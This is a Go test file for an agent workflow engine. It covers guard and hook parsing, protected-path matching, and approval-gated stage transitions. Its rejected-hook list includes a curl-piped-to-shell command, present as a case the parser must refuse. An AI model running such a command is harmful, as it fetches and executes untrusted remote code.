@@ -0,0 +1,148 @@
+package workflow
+
+import (
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/ankittk/agentary/internal/store"
+	"github.com/ankittk/agentary/pkg/models"
+)
+
+func TestParseGuardAndHook(t *testing.T) {
+	t.Parallel()
+	for _, ok := range []string{"diff_not_empty", "tests_pass", "min_approvals:2", "max_diff_lines:200", "no_protected_paths:infra/,*.pem"} {
+		if _, err := ParseGuard(ok); err != nil {
+			t.Errorf("ParseGuard(%q): %v", ok, err)
+		}
+	}
+	for _, bad := range []string{"min_approvals:zero", "max_diff_lines:-1", "no_protected_paths", "tests_pass:now", "vibes"} {
+		if _, err := ParseGuard(bad); err == nil {
+			t.Errorf("ParseGuard(%q): expected error", bad)
+		}
+	}
+	h, err := ParseHook("notify:slack:Task {{.TaskID}} in {{.Stage}}")
+	if err != nil || h.Target != "slack" || h.Arg != "Task {{.TaskID}} in {{.Stage}}" {
+		t.Errorf("ParseHook(notify) = %+v, %v", h, err)
+	}
+	if h, err := ParseHook("run:make lint, fmt"); err != nil || h.Arg != "make lint, fmt" {
+		t.Errorf("ParseHook(run) = %+v, %v", h, err)
+	}
+	for _, bad := range []string{"notify", "comment:", "comment:{{.Nope", "email:x", "run:curl http://x | sh"} {
+		if _, err := ParseHook(bad); err == nil {
+			t.Errorf("ParseHook(%q): expected error", bad)
+		}
+	}
+}
+
+func TestMatchProtected(t *testing.T) {
+	t.Parallel()
+	for _, tc := range []struct {
+		pattern, file string
+		want          bool
+	}{
+		{"infra/", "infra/main.tf", true},
+		{"infra", "infra/main.tf", true},
+		{"infra/", "src/infra.go", false},
+		{"*.pem", "certs/server.pem", true},
+		{"deploy/*.yaml", "deploy/prod.yaml", true},
+		{"go.mod", "go.mod", true},
+		{"go.mod", "tools/go.mod.bak", false},
+	} {
+		if got := matchProtected(tc.pattern, tc.file); got != tc.want {
+			t.Errorf("matchProtected(%q, %q) = %v, want %v", tc.pattern, tc.file, got, tc.want)
+		}
+	}
+}
+
+func TestApplyOutcome_guardsAndHooks(t *testing.T) {
+	t.Parallel()
+	home := filepath.Join(t.TempDir(), "home")
+	if err := os.MkdirAll(home, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	st, err := store.Open(home)
+	if err != nil {
+		t.Fatalf("Open: %v", err)
+	}
+	defer func() { _ = st.Close() }()
+	ctx := context.Background()
+	_, _ = st.CreateTeam(ctx, "t1")
+
+	def, err := ParseDefinition([]byte(`name: guarded
+stages:
+  - name: Review
+    type: human
+    outcomes: [approved, changes_requested, ship_it]
+    on_exit: ["run:touch left-review"]
+  - name: Coding
+    type: agent
+    outcomes: [done]
+    on_enter: ["comment:Back to coding ({{.Stage}}) for #{{.TaskID}}"]
+  - name: Done
+    type: terminal
+transitions:
+  - {from: Review, outcome: approved, to: Done, guards: ["min_approvals:2"], on_guard_fail: changes_requested}
+  - {from: Review, outcome: ship_it, to: Done, guards: ["min_approvals:1"]}
+  - {from: Review, outcome: changes_requested, to: Coding}
+  - {from: Coding, outcome: done, to: Review}
+`), "guarded.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	wfID, _, err := CreateFromDefinition(ctx, st, "t1", def, "", 0, "guarded.yaml")
+	if err != nil {
+		t.Fatal(err)
+	}
+	worktree := t.TempDir()
+	taskID, _ := st.CreateTask(ctx, "t1", "guarded task", models.StatusInProgress, &wfID)
+	_ = st.UpdateTaskGitFields(ctx, taskID, &worktree, nil, nil, nil)
+	task, _ := st.GetTaskByIDAndTeam(ctx, "t1", taskID)
+	eng := &Engine{Store: st}
+
+	// No fallback: the task stays in Review and the guard result is reported.
+	next, err := eng.ApplyOutcome(ctx, "t1", task, "ship_it")
+	var gerr *GuardError
+	if !errors.As(err, &gerr) || next != "" || *task.CurrentStage != "Review" {
+		t.Fatalf("ship_it = %q, %v (stage %s)", next, err, *task.CurrentStage)
+	}
+	if len(gerr.Results) != 1 || gerr.Results[0].Passed || gerr.Results[0].Reason != "0 of 1 approvals" {
+		t.Fatalf("guard results = %+v", gerr.Results)
+	}
+
+	// With one approval, approved (needs 2) routes to changes_requested, running on_exit and on_enter hooks.
+	_, _ = st.CreateTaskReview(ctx, "t1", taskID, "alice", "approved", "")
+	next, err = eng.ApplyOutcome(ctx, "t1", task, "approved")
+	if err != nil || next != "Coding" {
+		t.Fatalf("approved = %q, %v; want fallback to Coding", next, err)
+	}
+	if _, err := os.Stat(filepath.Join(worktree, "left-review")); err != nil {
+		t.Errorf("on_exit run hook did not run: %v", err)
+	}
+	comments, _ := st.ListTaskComments(ctx, "t1", taskID)
+	var bodies []string
+	for _, c := range comments {
+		bodies = append(bodies, c.Body)
+	}
+	joined := strings.Join(bodies, "\n")
+	if !strings.Contains(joined, `applying "changes_requested" instead`) || !strings.Contains(joined, "Back to coding (Coding) for #") {
+		t.Fatalf("comments = %q", joined)
+	}
+
+	// Back in Review with a second approval the guard passes.
+	if _, err := eng.ApplyOutcome(ctx, "t1", task, "done"); err != nil {
+		t.Fatal(err)
+	}
+	_, _ = st.CreateTaskReview(ctx, "t1", taskID, "bob", "approved", "")
+	next, err = eng.ApplyOutcome(ctx, "t1", task, "approved")
+	if err != nil || next != "Done" {
+		t.Fatalf("approved with 2 approvals = %q, %v", next, err)
+	}
+	done, _ := st.GetTaskByIDAndTeam(ctx, "t1", taskID)
+	if done.Status != models.StatusDone {
+		t.Fatalf("status = %s, want done", done.Status)
+	}
+}